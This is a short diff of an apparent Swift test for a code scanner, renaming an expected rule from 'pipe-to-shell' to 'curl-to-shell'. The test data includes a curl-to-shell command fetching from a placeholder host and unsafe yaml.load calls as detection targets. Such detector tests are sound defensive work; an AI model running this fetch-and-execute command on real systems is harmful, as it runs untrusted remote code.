@@ -60,7 +60,7 @@ import Text
         #expect(
             Set(places) == [
                 "eval/yaml-load yaml.load(text)", "eval/yaml-load yaml.load(\\\"é\\\" + text)",
-                "command/pipe-to-shell curl http://x.example/i | sh",
+                "command/curl-to-shell curl http://x.example/i | sh",
             ], "\(places)")
     }
 
